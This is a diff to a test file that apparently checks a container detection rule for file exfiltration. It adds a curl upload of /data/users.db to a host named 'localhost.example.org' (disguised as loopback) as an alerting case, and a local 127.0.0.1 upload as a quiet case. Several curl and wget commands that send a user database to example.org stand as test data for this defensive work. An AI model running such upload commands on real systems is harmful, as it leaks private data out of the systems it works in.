@@ -21,6 +21,8 @@ testContent('collection.yaml', {
       'curl uploads a file': (s) => s.start('/usr/bin/curl -T /data/users.db https://example.org/', s.inside),
       'curl posts a file as a form': (s) =>
         s.start('/usr/bin/curl -F f=@/data/users.db https://example.org/', s.inside),
+      'curl posts to a name that begins like loopback': (s) =>
+        s.start('/usr/bin/curl -T /data/users.db http://localhost.example.org/', s.inside),
       'curl posts a file as its body': (s) =>
         s.start('/usr/bin/curl --data-binary @/data/users.db https://example.org/', s.inside),
       "busybox's wget posts a file": (s) =>
@@ -29,6 +31,8 @@ testContent('collection.yaml', {
     quiet: {
       'curl asks an API with JSON': (s) =>
         s.start(['/usr/bin/curl', '-d', '{"query":"x"}', 'http://search:9200/_search'], s.inside),
+      'curl posts a file to a server in the same container': (s) =>
+        s.start('/usr/bin/curl -F f=@/data/a.jpg http://127.0.0.1:8080/upload', s.inside),
       'curl downloads': (s) => s.start('/usr/bin/curl -fsSL -o /srv/a https://example.org/a', s.inside),
       'the same on a host': (s) => s.start('/usr/bin/curl -T site.tgz https://example.org/'),
     },
